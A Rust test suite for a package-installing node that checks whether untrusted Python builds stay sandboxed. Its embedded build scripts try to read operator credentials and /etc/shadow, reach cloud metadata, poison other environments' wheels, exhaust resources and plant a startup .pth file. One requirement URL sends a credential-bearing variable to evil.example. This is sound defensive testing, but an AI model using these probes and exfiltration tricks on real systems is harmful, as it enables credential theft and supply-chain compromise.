//! Installing is running strangers' code: what it may do, and that nobody else gets anything of it.

use std::path::{Path, PathBuf};

use serde_json::{Value, json};

use crate::support::{
    Sandbox,
    index::Index,
    modules::Python,
    node::{TestNode, own_cache},
    processes,
};

/// A node that installs from this index, with a cache of its own.
fn node(index: &Index) -> TestNode {
    node_at(&index.url())
}

fn node_at(url: &str) -> TestNode {
    let mut sandbox = Sandbox::new();
    own_cache(&mut sandbox);
    sandbox.set("UV_DEFAULT_INDEX", url);
    TestNode::start_in(sandbox, &[])
}

fn environments(node: &TestNode) -> PathBuf {
    node.sandbox.home().join("cache").join("environments")
}

/// Folders of environments, finished or not.
fn kept(node: &TestNode) -> Vec<PathBuf> {
    let entries = std::fs::read_dir(environments(node)).expect("a folder").map(|entry| entry.expect("an entry").path());
    let is_key = |path: &PathBuf| path.is_dir() && path.file_name().is_some_and(|name| name.len() == 32);
    entries.filter(is_key).collect()
}

/// Deploys a module that needs these packages.
fn needing<'a>(id: &'a str, run: &'a str, requirements: &'a [&'a str]) -> Python<'a> {
    Python { requirements, ..Python::new(id, run) }
}

/// What the build script of a package finds, as the module that depends on it is told.
#[track_caller]
fn found(node: &TestNode, index: &Index, build: &str) -> Value {
    index.source("evil", "1.0", build);
    let run = "import json\nimport evil\n\ndef run(module_run):\n    return json.dumps(evil.FOUND)\n";
    node.deploy(&needing("agent:user", run, &["evil"]));
    let result = node.user().run("agent:user", json!({})).result.expect("a result");
    serde_json::from_str(&result).expect("JSON")
}

#[test]
fn a_build_sees_nothing_of_its_node_and_reaches_only_indexes() {
    let index = Index::start();
    let node = node_at(&format!("http://me:open-sesame@{}/simple", index.address));
    let build = format!(
        r#"
import os, socket, urllib.request
def tried(what):
    try:
        return str(what())
    except OSError as error:
        return "no"
def fetched(url):
    return urllib.request.urlopen(url, timeout=20).status
def written(path):
    with open(path, "a"):
        return "written"
return {{
    "data": tried(lambda: os.listdir({data:?})),
    "environments": tried(lambda: sorted(os.listdir({environments:?}))),
    "installer": tried(lambda: written({environments:?} + "/installer/bin/uv")),
    "passwords": "canary" if os.path.exists("/etc/shadow") else "no",
    "system": tried(lambda: written("/usr/bin/env")),
    "user": os.getuid() == 0 and "root" or "no",
    "node": tried(lambda: socket.create_connection(("127.0.0.1", {port}), 5)),
    "proxied": tried(lambda: fetched("http://127.0.0.1:{port}/health")),
    "metadata": tried(lambda: fetched("http://169.254.169.254/")),
    "index": tried(lambda: fetched("http://{index}/simple/evil/")),
    "secrets": [name for name, value in os.environ.items() if "sesame" in value or "canary" in value.lower()],
    "processes": len([name for name in os.listdir("/proc") if name.isdigit()]) < 10,
}}"#,
        data = node.data(),
        environments = environments(&node),
        port = node.url.rsplit_once(':').expect("a port").1,
        index = index.address,
    );
    let found = found(&node, &index, &build);
    for (what, expected) in [
        ("data", json!("no")),
        ("installer", json!("no")),
        ("passwords", json!("no")),
        ("system", json!("no")),
        ("user", json!("no")),
        ("node", json!("no")),
        ("proxied", json!("no")),
        ("metadata", json!("no")),
        ("index", json!("200")),
        ("secrets", json!([])),
        ("processes", json!(true)),
    ] {
        assert_eq!(found[what], expected, "{what}: {found}");
    }
    // Only what the mounts of its own folders need.
    assert!(!found["environments"].to_string().contains("shared"), "{found}");
}

#[test]
fn what_a_build_writes_is_in_nobody_elses_environment() {
    let index = Index::start();
    let node = node(&index);
    index.wheel("common", "1.0", &[("common.py", "WHO = 'common'\n")]);
    let run = "import common\n\ndef run(module_run):\n    return common.WHO\n";
    node.deploy(&needing("agent:first", run, &["common"]));
    // Writes to whatever is called like it, and gives a wheel of that name beside its own.
    let build = r#"
evil = {"common.py": "WHO = 'evil'\n"}
written = []
places = [ENVIRONMENTS, ENVIRONMENTS + "/shared", ENVIRONMENTS + "/built", os.environ["TMPDIR"], directory]
for folder, _, files in (found for place in places for found in os.walk(place)):
    try:
        write_wheel(folder, "common", "1.0", evil)
        written.append(folder)
    except OSError:
        pass
    for file in files:
        if file.startswith("common"):
            try:
                with open(os.path.join(folder, file), "w") as out:
                    out.write(evil["common.py"])
            except OSError:
                pass
return len(written)"#;
    let build = build.replace("ENVIRONMENTS", &format!("{:?}", environments(&node)));
    let count = found(&node, &index, &build);
    assert!(count.as_u64().is_some_and(|count| count > 0), "it could write to its own folders: {count}");
    // The same, in the installed one, in a new environment, and together with what is evil.
    for (id, requirements) in
        [("agent:first", &["common"][..]), ("agent:second", &["common==1.0"]), ("agent:third", &["common", "evil"])]
    {
        node.deploy(&needing(id, run, requirements));
        assert_eq!(node.user().run(id, json!({})).result.as_deref(), Some("common"), "{id}");
    }
}

#[test]
fn a_source_is_built_once_and_its_wheel_kept() {
    let index = Index::start();
    let node = node(&index);
    index.source("slow", "2.0", "return os.urandom(8).hex()");
    index.wheel("other", "1.0", &[("other.py", "")]);
    let run = "import slow\n\ndef run(module_run):\n    return slow.FOUND\n";
    let result = |id, requirements: &[&str]| {
        node.deploy(&needing(id, run, requirements));
        node.user().run(id, json!({})).result.expect("a result")
    };
    // Two sets, two environments, one build.
    assert_eq!(result("agent:first", &["slow"]), result("agent:second", &["slow", "other"]));
    assert_eq!(kept(&node).len(), 2);
}

#[test]
fn a_locked_source_is_built_of_the_bytes_that_are_locked() {
    let index = Index::start();
    let node = node(&index);
    index.source("slow", "2.0", "return os.urandom(8).hex()");
    let run = "import slow\n\ndef run(module_run):\n    return slow.FOUND\n";
    // Built before, of whatever the index has: not what a lock file with digests takes.
    let module = needing("agent:user", run, &["slow"]);
    node.deploy(&module);
    let result = || node.user().run("agent:user", json!({})).result.expect("a result");
    let unlocked = result();
    for (digest, version) in [(index.sha256("slow-2.0.tar.gz"), "0.2.0"), ("00".repeat(32), "0.3.0")] {
        let module = Python { version, ..needing("agent:user", run, &["slow"]) };
        module.write(&node.sandbox);
        node.sandbox.write("user/requirements.txt", format!("slow==2.0 --hash=sha256:{digest}\n"));
        let ran = node.napt(&["deploy", "user", "--no-verify"]);
        if version == "0.2.0" {
            ran.expect(0);
            assert_ne!(result(), unlocked);
        } else {
            let failed = ran.expect(1);
            assert!(failed.stderr.contains("Hash mismatch"), "{}", failed.stderr);
        }
    }
}

#[test]
fn a_build_that_takes_too_much_is_told_and_leaves_nothing() {
    let index = Index::start();
    let node = node(&index);
    for (name, build, told) in [
        ("memory", "return len(bytearray(5 << 30))", "memory limit of 4.0 GiB reached"),
        (
            "disk",
            "with open(os.path.join(directory, 'large'), 'wb') as file:\n    file.truncate(5 << 30)",
            "disk limit of 4.0 GiB reached",
        ),
        (
            "forks",
            "import time\nfor _ in range(1000):\n    if os.fork() == 0:\n        time.sleep(30)\n        os._exit(0)",
            "process limit of 256 reached",
        ),
        (
            // Each name is an entry of a folder, whoever has the file.
            "names",
            "import time\nfor file in range(10):\n    first = os.path.join(directory, str(file))\n    open(first, 'w').close()\n    \
             for number in range(15_000):\n        os.link(first, f'{first}-{number}')\ntime.sleep(300)",
            "limit of 100000 files reached",
        ),
    ] {
        index.source(name, "1.0", build);
        needing(&format!("agent:{name}"), "def run(module_run):\n    return 'never'\n", &[name]).write(&node.sandbox);
        let failed = node.napt(&["deploy", name, "--no-verify"]).expect(1);
        assert!(failed.stderr.contains(&format!("cannot install `agent:{name} 0.1.0`")), "{}", failed.stderr);
        assert!(failed.stderr.contains(told), "{}", failed.stderr);
        assert_eq!(kept(&node), [] as [PathBuf; 0], "{name}");
    }
    assert_eq!(processes::working_in(&environments(&node)).len(), 0);
    // Neither of environments in the making, nor of what was fetched and not finished.
    for folder in ["new", "cache"] {
        let left = std::fs::read_dir(environments(&node).join("shared").join(folder)).expect("a folder");
        let left: Vec<_> = left.map(|entry| entry.expect("an entry").file_name()).collect();
        let is_left = |name: &std::ffi::OsString| folder == "new" || name.as_encoded_bytes().starts_with(b".tmp");
        assert!(!left.iter().any(is_left), "{left:?}");
    }
}

#[test]
fn what_a_build_starts_ends_with_it() {
    let index = Index::start();
    let node = node(&index);
    let unique = format!("{}.5", 70_000 + std::process::id() % 10_000);
    let build = format!(
        "import subprocess\nif os.fork() == 0:\n    os.setsid()\n    subprocess.Popen(['sleep', '{unique}'], \
         stdin=-3, stdout=-3, stderr=-3)\n    os._exit(0)\nreturn 'started'"
    );
    assert_eq!(found(&node, &index, &build), json!("started"));
    assert_eq!(processes::called_with(&unique).len(), 0);
}

#[test]
fn a_build_that_fails_is_told_with_its_last_lines() {
    let index = Index::start();
    let node = node(&index);
    index.source("broken", "1.0", "print('looking for a compiler')\nraise SystemExit('there is no compiler here')");
    needing("agent:user", "def run(module_run):\n    return 'never'\n", &["broken"]).write(&node.sandbox);
    let failed = node.napt(&["deploy", "user", "--no-verify"]).expect(1);
    assert!(failed.stderr.contains("there is no compiler here"), "{}", failed.stderr);
    assert!(failed.stderr.contains("broken"), "{}", failed.stderr);
    assert_eq!(kept(&node), [] as [PathBuf; 0]);
    // A version that builds is installed as if nothing had been.
    index.source("broken", "1.1", "return 'fine'");
    let run = "import broken\n\ndef run(module_run):\n    return broken.FOUND\n";
    node.deploy(&needing("agent:user", run, &["broken"]));
    assert_eq!(node.user().run("agent:user", json!({})).result.as_deref(), Some("fine"));
}

#[test]
fn nothing_of_a_wheel_is_run_when_it_is_installed() {
    let index = Index::start();
    let node = node(&index);
    // Whoever starts the environment's interpreter runs this line; it keeps what it was started for.
    let line = "import sys; open(sys.prefix + '/ran', 'a').write(repr(sys.orig_argv) + '\\n')\n";
    index.wheel("startup", "1.0", &[("startup.py", "X = 1\n"), ("startup.pth", line)]);
    node.deploy(&needing("agent:user", "def run(module_run):\n    return 'fine'\n", &["startup"]));
    let environment = kept(&node).pop().expect("an environment");
    let ran = std::fs::read_to_string(environment.join("venv").join("ran")).unwrap_or_default();
    // Neither to compile nor by the installer, which asks it about itself; only for runs.
    assert!(!ran.contains("py_compile") && !ran.contains("sys.path = ["), "{ran}");
    let bytecode = find(&environment, "startup.cpython-");
    assert!(bytecode.is_some(), "it is compiled all the same");
}

/// A file below a folder whose name begins so.
fn find(folder: &Path, start: &str) -> Option<PathBuf> {
    std::fs::read_dir(folder).ok()?.filter_map(|entry| Some(entry.ok()?.path())).find_map(|path| {
        let is_it = path.file_name().is_some_and(|name| name.to_string_lossy().starts_with(start));
        if is_it {
            Some(path)
        } else if path.is_dir() {
            find(&path, start)
        } else {
            None
        }
    })
}

#[test]
fn a_package_cannot_replace_the_interpreter() {
    let index = Index::start();
    let node = node(&index);
    for (name, path) in [("config", "data/pyvenv.cfg"), ("interpreter", "data/bin/python"), ("own", "scripts/python")] {
        let path = format!("{name}-1.0.data/{path}");
        index.wheel(name, "1.0", &[(&path, "home = /root\n")]);
        needing(&format!("agent:{name}"), "def run(module_run):\n    return 'never'\n", &[name]).write(&node.sandbox);
        let failed = node.napt(&["deploy", name, "--no-verify"]).expect(1);
        assert!(failed.stderr.contains("cannot install `agent:"), "{}", failed.stderr);
        if name == "config" {
            assert!(failed.stderr.contains("a package replaces the environment's interpreter"), "{}", failed.stderr);
        }
        assert_eq!(kept(&node), [] as [PathBuf; 0]);
    }
}

#[test]
fn variables_of_the_operator_are_not_put_into_requirements() {
    let index = Index::start();
    let node = node(&index);
    let requirement = "evil @ https://evil.example/${UV_DEFAULT_INDEX}/evil-1.0-py3-none-any.whl";
    needing("agent:user", "def run(module_run):\n    return 'never'\n", &[requirement]).write(&node.sandbox);
    let failed = node.napt(&["deploy", "user", "--no-verify"]).expect(1);
    assert!(failed.stderr.contains("refers to a variable"), "{}", failed.stderr);
}

#[test]
fn the_same_needs_of_two_users_are_one_environment() {
    let index = Index::start();
    let mut other = Sandbox::new();
    let key = napt::identity::CredentialStore::new(other.home().join("napt").join("config"));
    let user = key.key_or_create().expect("a key").public().user_id();
    let mut sandbox = Sandbox::new();
    own_cache(&mut sandbox);
    sandbox.set("UV_DEFAULT_INDEX", &index.url());
    let node = TestNode::start_in(sandbox, &["--user", &user]);
    index.wheel("common", "1.0", &[("common.py", "WHO = 'common'\n")]);
    let run = "import common\n\ndef run(module_run):\n    return common.WHO\n";
    node.deploy(&needing("agent:own", run, &["common"]));
    other.set("NAPT_NODE", &node.url);
    needing("agent:theirs", run, &["common"]).write(&other);
    other.napt(&["deploy", "theirs", "--no-verify"]).expect(0);
    assert_eq!(kept(&node).len(), 1);
}

#[test]
fn ten_modules_install_side_by_side() {
    const COUNT: usize = 10;
    // It answers nobody before all ten have asked: one behind the other would wait for ever.
    let index = Index::gated(COUNT);
    let mut sandbox = Sandbox::new();
    own_cache(&mut sandbox);
    sandbox.set("UV_DEFAULT_INDEX", &index.url());
    sandbox.set("UV_HTTP_TIMEOUT", "300");
    let node = TestNode::start_in(sandbox, &[]);
    for number in 0..COUNT {
        let name = format!("p{number}");
        index.wheel(&name, "1.0", &[(&format!("{name}.py"), &format!("NUMBER = {number}\n"))]);
        let run = format!("import {name}\n\ndef run(module_run):\n    return str({name}.NUMBER)\n");
        needing(&format!("agent:m{number}"), &run, &[&name]).write(&node.sandbox);
    }
    std::thread::scope(|scope| {
        for number in 0..COUNT {
            let (node, index) = (&node, &index);
            scope.spawn(move || {
                let deployed = node.napt(&["deploy", &format!("m{number}"), "--no-verify"]);
                if deployed.code != Some(0) {
                    // The others need not wait for it.
                    index.open();
                }
                deployed.expect(0);
            });
        }
    });
    let user = node.user();
    for number in 0..COUNT {
        let result = user.run(&format!("agent:m{number}"), json!({})).result;
        assert_eq!(result, Some(number.to_string()));
    }
}

#[test]
fn bytecode_is_made_once_for_all_environments() {
    let index = Index::start();
    let node = node(&index);
    index.wheel("common", "1.0", &[("common.py", "WHO = 'common'\n")]);
    index.wheel("other", "1.0", &[("other.py", "")]);
    let run = "import common\n\ndef run(module_run):\n    return common.WHO\n";
    node.deploy(&needing("agent:first", run, &["common"]));
    node.deploy(&needing("agent:second", run, &["common", "other"]));
    let files: Vec<PathBuf> =
        kept(&node).iter().map(|folder| find(folder, "common.cpython-").expect("bytecode")).collect();
    let inode = |path: &PathBuf| std::os::unix::fs::MetadataExt::ino(&std::fs::metadata(path).expect("a file"));
    assert_eq!(files.len(), 2);
    assert_eq!(inode(&files[0]), inode(&files[1]));
}

/// What it takes to install `common` and `other` in an environment of its own, locked or not.
fn deploy_pair(node: &TestNode, index: &Index, id: &str, requirement: &str, is_locked: bool) {
    let run = "import common, other\n\ndef run(module_run):\n    return common.WHO\n";
    let name = id.split(':').nth(1).expect("a name");
    needing(id, run, &[requirement]).write(&node.sandbox);
    let files = ["common-1.0-py3-none-any.whl", "other-1.0-py3-none-any.whl"];
    let lines = files.map(|file| {
        let package = file.split('-').next().expect("a name");
        format!("{package}==1.0 --hash=sha256:{}\n", index.sha256(file))
    });
    if is_locked {
        node.sandbox.write(format!("{name}/requirements.txt"), lines.concat());
    }
    node.napt(&["deploy", name, "--no-verify"]).expect(0);
    assert_eq!(node.user().run(id, json!({})).result.as_deref(), Some("common"), "{id}");
}

/// An index with two packages, one of which needs the other.
fn pair() -> Index {
    let index = Index::start();
    index.wheel("other", "1.0", &[("other.py", "")]);
    index.wheel_needing("common", "1.0", &["other"], &[("common.py", "WHO = 'common'\n")]);
    index
}

#[test]
fn what_is_locked_and_cached_is_installed_without_the_index() {
    let index = pair();
    let node = node(&index);
    deploy_pair(&node, &index, "agent:first", "common", true);
    index.requests();
    index.close();
    // Another set, of the same packages.
    deploy_pair(&node, &index, "agent:second", "common>=0.9", true);
    assert_eq!(kept(&node).len(), 2);
    assert_eq!(index.requests(), [] as [String; 0]);
    // An installed set needs nobody, locked or not.
    deploy_pair(&node, &index, "agent:third", "common>=0.9", true);
    assert_eq!(index.requests(), [] as [String; 0]);
}

#[test]
fn of_what_is_not_locked_the_index_is_asked_once_for_each_package() {
    let index = pair();
    let node = node(&index);
    deploy_pair(&node, &index, "agent:first", "common", false);
    index.requests();
    deploy_pair(&node, &index, "agent:second", "common>=0.9", false);
    let pages =
        |requests: Vec<String>| requests.into_iter().filter(|path| path.starts_with("/simple/")).collect::<Vec<_>>();
    assert_eq!(pages(index.requests()), ["/simple/common/", "/simple/other/"]);
    // A newer version is found at once, since the index does not say how long its answers are good.
    index.wheel("common", "1.1", &[("common.py", "WHO = 'newer'\n")]);
    let run = "import common\n\ndef run(module_run):\n    return common.WHO\n";
    node.deploy(&needing("agent:third", run, &["common>=0.8"]));
    assert_eq!(node.user().run("agent:third", json!({})).result.as_deref(), Some("newer"));
    index.requests();
    // An index that does say so is not asked again.
    index.keep_for(600);
    deploy_pair(&node, &index, "agent:fourth", "common<=1.0", false);
    index.requests();
    deploy_pair(&node, &index, "agent:fifth", "common<1.1", false);
    assert_eq!(pages(index.requests()), [] as [String; 0]);
}

#[test]
fn a_build_reads_no_credentials_of_the_operators() {
    let index = Index::start();
    let folder = tempfile::tempdir().expect("a folder");
    let write = |name: &str, text: String| {
        let path = folder.path().join(name);
        std::fs::write(&path, text).expect("a file");
        path.into_os_string().into_string().expect("UTF-8")
    };
    let mut sandbox = Sandbox::new();
    own_cache(&mut sandbox);
    let files = [
        (
            "UV_CONFIG_FILE",
            write(
                "uv.toml",
                format!("# canary\n[[index]]\nurl = \"http://me:canary@{}/simple\"\ndefault = true\n", index.address),
            ),
        ),
        ("PIP_CONFIG_FILE", write("pip.conf", "[global]\n# canary\n".to_owned())),
        ("UV_ENV_FILE", write(".env", "TOKEN=canary\n".to_owned())),
    ];
    for (name, path) in &files {
        sandbox.set(name, path);
    }
    let netrc = sandbox.home().join(".netrc");
    std::fs::write(&netrc, "default login me password canary\n").expect("a file");
    let node = TestNode::start_in(sandbox, &[]);
    let paths: Vec<&str> = files.iter().map(|(_, path)| path.as_str()).chain(netrc.to_str()).collect();
    let build = format!(
        r#"
found = []
for path in {paths:?} + [os.environ.get(name, "/nothing") for name in {names:?}]:
    try:
        with open(path) as file:
            found.append(path + ": " + file.read())
    except OSError:
        pass
configuration = [text for text in found if "canary" not in text and {index:?} in text]
return {{
    "secrets": [text for text in found if "canary" in text] + [text for text in os.environ.values() if "canary" in text],
    "index": len(configuration),
}}"#,
        names = files.each_ref().map(|(name, _)| name),
        index = index.address,
    );
    let found = found(&node, &index, &build);
    assert_eq!(found["secrets"], json!([]), "{found}");
    assert_eq!(found["index"], json!(1), "where packages are, it may know: {found}");
}
